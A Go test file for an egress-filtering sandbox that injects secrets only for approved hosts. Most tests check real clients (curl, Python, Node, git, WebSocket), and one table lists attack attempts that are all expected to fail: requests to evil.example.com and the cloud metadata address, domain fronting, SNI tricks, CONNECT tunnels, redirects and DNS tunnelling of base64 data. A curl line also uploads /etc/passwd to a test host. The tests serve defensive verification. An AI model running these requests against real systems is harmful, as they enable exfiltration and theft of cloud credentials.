package egress

import (
	"fmt"
	"io"
	"net/http"
	"net/http/cgi"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/reflection-dev/zeno/internal/need"
	"github.com/reflection-dev/zeno/internal/npmcli"
)

// needs skips where a client is missing, and fails in CI.
func needs(t *testing.T, programs ...string) {
	t.Helper()
	for _, p := range programs {
		if _, err := exec.LookPath(p); err != nil {
			need.Skip(t, "%v", err)
		}
	}
}

// clientWorld is a namespace with two hosts over TLS, of which one has the secret, and one over plain HTTP.
func clientWorld(t *testing.T, rec *recorder) *netns {
	t.Helper()
	w := newWorld(t)
	if rec.then == nil {
		rec.then = echo
	}
	endpoint, _ := url.Parse("http://" + w.plain(rec) + "/mcp/worker")
	return startNetns(t, Config{Roots: w.pool, Internal: &Internal{Endpoint: endpoint, Token: value(t, "token-0123456789")},
		Policy: Policy{Allow: []Rule{at("api.example.com", w.server("api.example.com", rec)), at("other.example.com", w.server("other.example.com", rec)),
			at80("plain.example.com", w.plain(rec)), {Host: "llm.lan", Port: 8443, Addr: w.server("llm.lan", rec)}}},
		Secrets: []Secret{{Env: "TOKEN", Hosts: []string{"api.example.com"}, Value: value(t, canary)}}})
}

func TestCurl(t *testing.T) {
	needs(t, "curl", "sh")
	rec := &recorder{}
	n := clientWorld(t, rec)
	for _, version := range []string{"--http1.1", "--http2"} {
		out, code := n.run("sh", "-c", `curl -sS `+version+` -w 'version=%{http_version}' -H "Authorization: Bearer $TOKEN" --data-binary @/etc/passwd https://api.example.com/x`)
		if code != 0 || !strings.Contains(out, `Authorization: ["Bearer $MSB_TOKEN"]`) || !strings.Contains(out, "root:") || !strings.HasSuffix(out, "version="+strings.TrimPrefix(version, "--http")) {
			t.Errorf("%s: got %d %s", version, code, out)
		}
		if got := rec.last().Header.Get("Authorization"); got != "Bearer "+canary {
			t.Errorf("%s: upstream got %q", version, got)
		}
	}
	if out, code := n.run("curl", "-sS", "http://plain.example.com/"); code != 0 || !strings.Contains(out, "host=plain.example.com") {
		t.Errorf("plain: got %d %s", code, out)
	}
	if out, code := n.run("curl", "-sS", "https://llm.lan:8443/v1"); code != 0 || !strings.Contains(out, "host=llm.lan:8443") {
		t.Errorf("a port of its own: got %d %s", code, out)
	}
	if out, code := n.run("sh", "-c", `curl -sS -H "Authorization: Bearer $ZENO_TOKEN" http://zeno.internal/mcp/worker`); code != 0 || rec.last().Header.Get("Authorization") != "Bearer token-0123456789" || strings.Contains(out, "token-0123456789") {
		t.Errorf("the endpoint: got %d %s", code, out)
	}
}

func TestPythonAndNode(t *testing.T) {
	rec := &recorder{}
	n := clientWorld(t, rec)
	t.Run("python", func(t *testing.T) {
		needs(t, "python3")
		out, code := n.run("python3", "-c", `
import os, urllib.request
r = urllib.request.Request("https://api.example.com/py", headers={"X-Api-Key": os.environ["TOKEN"]})
print(urllib.request.urlopen(r, timeout=60).read().decode())`)
		if code != 0 || rec.last().Header.Get("X-Api-Key") != canary || !strings.Contains(out, `$MSB_TOKEN`) {
			t.Errorf("got %d %s", code, out)
		}
	})
	t.Run("node", func(t *testing.T) {
		needs(t, "node")
		out, code := n.run("node", "-e", `
fetch("https://api.example.com/node", {method: "POST", body: "x", headers: {"X-Api-Key": process.env.TOKEN}})
  .then(r => r.text()).then(t => console.log(t), e => { console.log(e, e.cause); process.exit(1) })`)
		if code != 0 || rec.last().Header.Get("X-Api-Key") != canary || !strings.Contains(out, `$MSB_TOKEN`) {
			t.Errorf("got %d %s", code, out)
		}
	})
}

// git sends Basic credentials, so that the placeholder travels in base64.
func TestGit(t *testing.T) {
	needs(t, "git")
	execPath, err := exec.Command("git", "--exec-path").Output()
	if err != nil {
		t.Fatal(err)
	}
	root := t.TempDir()
	if out, err := exec.Command("git", "init", "-q", "--bare", "-b", "main", filepath.Join(root, "repo.git")).CombinedOutput(); err != nil {
		t.Fatalf("%v %s", err, out)
	}
	if out, err := exec.Command("git", "-C", filepath.Join(root, "repo.git"), "config", "http.receivepack", "true").CombinedOutput(); err != nil {
		t.Fatalf("%v %s", err, out)
	}
	backend := &cgi.Handler{Path: filepath.Join(strings.TrimSpace(string(execPath)), "git-http-backend"), Env: []string{"GIT_PROJECT_ROOT=" + root, "GIT_HTTP_EXPORT_ALL=1"}, Stderr: io.Discard}
	w := newWorld(t)
	addr := w.server("git.example.com", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if user, pass, _ := r.BasicAuth(); user != "bot" || pass != canary {
			w.Header().Set("WWW-Authenticate", `Basic realm="git"`)
			http.Error(w, "want the token", http.StatusUnauthorized)
			return
		}
		r.Header.Del("Transfer-Encoding")
		backend.ServeHTTP(w, r)
	}))
	n := startNetns(t, Config{Roots: w.pool, Policy: Policy{Allow: []Rule{at("git.example.com", addr)}}, Secrets: []Secret{{Env: "GH_TOKEN", Hosts: []string{"git.example.com"}, Value: value(t, canary)}}})
	if out, code := n.run("git", "clone", "https://bot:wrong@git.example.com/repo.git", "wrong"); code == 0 {
		t.Fatalf("the server lets everybody in: %s", out)
	}
	script := `set -e
git clone -q "https://bot:$GH_TOKEN@git.example.com/repo.git" work
cd work
git config user.email a@example.com; git config user.name a
head -c 3000000 /dev/urandom > big; echo hello > f; git add .; git commit -qm one
git push -q origin HEAD:main
cd ..; git clone -q "https://bot:$GH_TOKEN@git.example.com/repo.git" again
cmp work/big again/big; cat again/f; cat work/.git/config`
	out, code := n.run("sh", "-c", script)
	if code != 0 || !strings.Contains(out, "hello") || leaks(out) != "" {
		t.Errorf("got %d %s\n%s", code, out, n.told())
	}
	if leaks(n.told()) != "" {
		t.Errorf("the events hold the value")
	}
	e := n.wait(func(e Event) bool {
		return e.Method == "POST" && strings.HasSuffix(e.Path, "git-receive-pack") && e.Sent > 3_000_000
	})
	if fmt.Sprint(e.Secrets) != "[GH_TOKEN]" {
		t.Errorf("got %+v", e)
	}
}

func TestNodeWebsocket(t *testing.T) {
	node := npmcli.Node(t) // older ones have no WebSocket
	rec := &recorder{then: websocketEcho}
	n := clientWorld(t, rec)
	out, code := n.run(node, "-e", `
const ws = new WebSocket("wss://api.example.com/ws?x=1");
ws.onopen = () => ws.send("hello");
ws.onmessage = e => { console.log("got " + e.data); ws.close() };
ws.onerror = e => { console.log("error", e.message); process.exit(1) };`)
	if code != 0 || out != "got hello\n" {
		t.Errorf("got %d %s\n%s", code, out, n.told())
	}
}

// The attack table from inside the namespace, with real programs.
func TestAttacksFromInside(t *testing.T) {
	needs(t, "curl", "python3", "sh")
	rec := &recorder{then: func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/redirect" {
			http.Redirect(w, r, r.URL.Query().Get("to"), http.StatusFound)
			return
		}
		echo(w, r)
	}}
	n := clientWorld(t, rec)
	if out, code := n.run("curl", "-sS", "https://api.example.com/"); code != 0 {
		t.Fatalf("nothing works: %s", out)
	}
	before := len(rec.seen)
	for name, argv := range map[string][]string{
		"IP literal":        {"curl", "-sS", "-m5", "-k", "https://93.184.216.34/"},
		"metadata":          {"curl", "-sS", "-m5", "http://169.254.169.254/latest/meta-data/"},
		"loopback":          {"curl", "-sS", "-m5", "http://127.0.0.1/"},
		"unknown synthetic": {"curl", "-sS", "-m5", "-k", "https://198.18.7.7/"},
		"other name":        {"curl", "-sS", "-m5", "https://evil.example.com/"},
		"fronting":          {"curl", "-sSf", "-m5", "-H", "Host: evil.example.com", "https://api.example.com/"},
		"SNI":               {"curl", "-sSf", "-m5", "--connect-to", "evil.example.com:443:api.example.com:443", "https://evil.example.com/"},
		"IPv6":              {"curl", "-6", "-sS", "-m5", "https://api.example.com/"},
		"IPv6 literal":      {"curl", "-6", "-sS", "-m5", "-k", "https://[2606:4700::1111]/"},
		"other port":        {"curl", "-sS", "-m5", "-k", "https://api.example.com:22/"},
		"nREPL":             {"curl", "-sS", "-m5", "http://zeno.internal:7888/"},
		"other role":        {"curl", "-sSf", "-m5", "http://zeno.internal/mcp/reader"},
		"control":           {"curl", "-sSf", "-m5", "http://zeno.internal/control/spawns"},
		"CONNECT":           {"curl", "-sS", "-m5", "-p", "-x", "http://api.example.com:80", "https://evil.example.com/"},
		"CONNECT internal":  {"curl", "-sSf", "-m5", "-p", "-x", "http://zeno.internal:80", "https://evil.example.com/"},
		"plain on 443":      {"curl", "-sSf", "-m5", "http://api.example.com:80/"},
	} {
		if out, code := n.run(argv...); code == 0 {
			t.Errorf("%s: got in: %s", name, out)
		}
	}
	if len(rec.seen) != before {
		t.Errorf("upstreams got %d of these requests", len(rec.seen)-before)
	}
	for _, to := range []string{"https://evil.example.com/", "http://169.254.169.254/", "http://127.0.0.1:7888/"} {
		if out, code := n.run("curl", "-sS", "-L", "-m5", "https://api.example.com/redirect?to="+url.QueryEscape(to)); code == 0 {
			t.Errorf("redirect to %s: got %s", to, out)
		}
	}
	// UDP other than DNS, and DNS that carries data out or asks another server.
	out, code := n.run("python3", "-c", `
import socket
def ask(addr, name, typ=1):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(30); s.connect(addr)
    q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + b"".join(bytes([len(p)]) + p for p in name.encode().split(b".")) + b"\x00" + bytes([0, typ, 0, 1])
    try:
        s.send(q); r = s.recv(1500); return "rcode=%d answers=%d" % (r[3] & 15, r[7])
    except Exception as e: return type(e).__name__
print("quic", ask(("93.184.216.34", 443), "x"))
print("tunnel", ask(("127.0.0.53", 53), "c2VjcmV0.evil.example.com"))
print("txt", ask(("127.0.0.53", 53), "c2VjcmV0.evil.example.com", 16))
print("other server", ask(("8.8.8.8", 53), "evil.example.com"))
print("other server, allowed", ask(("8.8.8.8", 53), "api.example.com"))
print("aaaa", ask(("127.0.0.53", 53), "api.example.com", 28))`)
	want := "quic ConnectionRefusedError\ntunnel rcode=5 answers=0\ntxt rcode=5 answers=0\nother server rcode=5 answers=0\nother server, allowed rcode=0 answers=1\naaaa rcode=0 answers=0\n"
	if code != 0 || out != want {
		t.Errorf("UDP: got %s\nwant %s", out, want)
	}
	// The value is in no environment and no memory that a program in the box can show.
	if out, _ := n.run("sh", "-c", "env; cat /proc/self/environ"); leaks(out) != "" || !strings.Contains(out, "TOKEN=$MSB_TOKEN") {
		t.Errorf("environment: %s", out)
	}
	if leaks(n.told()) != "" {
		t.Errorf("the events hold the value")
	}
}

// A program that used the secret, and got it echoed, has it nowhere in its memory.
func TestTheValueIsInNoMemory(t *testing.T) {
	needs(t, "python3")
	n := clientWorld(t, &recorder{})
	done := make(chan string, 1)
	go func() {
		out, _ := n.run("python3", "-c", `
import os, time, urllib.request
r = urllib.request.Request("https://api.example.com/", headers={"X-Api-Key": os.environ["TOKEN"]})
answer = urllib.request.urlopen(r, timeout=60); text = answer.read()
open("pid.new", "w").write(str(os.getpid())); os.rename("pid.new", "pid")
for i in range(6000):
    if os.path.exists("go"): break
    time.sleep(0.05)
print(text.decode())`)
		done <- out
	}()
	var pid string
	for range 1200 {
		if b, err := os.ReadFile(filepath.Join(n.dir, "pid")); err == nil {
			pid = string(b)
			break
		}
		time.Sleep(50 * time.Millisecond)
	}
	there, placeholder, err := memoryHolds(pid, canary), memoryHolds(pid, "$MSB_TOKEN"), os.WriteFile(filepath.Join(n.dir, "go"), nil, 0o644)
	if out := <-done; err != nil || !strings.Contains(out, "$MSB_TOKEN") {
		t.Fatalf("got %s %v", out, err)
	}
	if !placeholder || !memoryHolds("self", canary) {
		t.Fatal("the search finds nothing, not even what is there")
	}
	if there {
		t.Error("the value is in the memory of the program")
	}
}

// memoryHolds searches what a process can write of its memory.
func memoryHolds(pid, text string) bool {
	maps, err := os.ReadFile("/proc/" + pid + "/maps")
	if err != nil {
		return false
	}
	mem, err := os.Open("/proc/" + pid + "/mem")
	if err != nil {
		return false
	}
	defer mem.Close()
	m := newMatcher([]pattern{{find: text}})
	for line := range strings.Lines(string(maps)) {
		var from, to int64
		var mode string
		if n, _ := fmt.Sscanf(line, "%x-%x %s", &from, &to, &mode); n != 3 || !strings.HasPrefix(mode, "rw") {
			continue
		}
		f := newFinder(m)
		if _, err := io.Copy(reader(f.read), io.NewSectionReader(mem, from, to-from)); err != nil {
			continue // a page that cannot be read
		}
		if f.found[0] {
			return true
		}
	}
	return false
}

type reader func([]byte)

func (r reader) Write(p []byte) (int, error) { r(p); return len(p), nil }
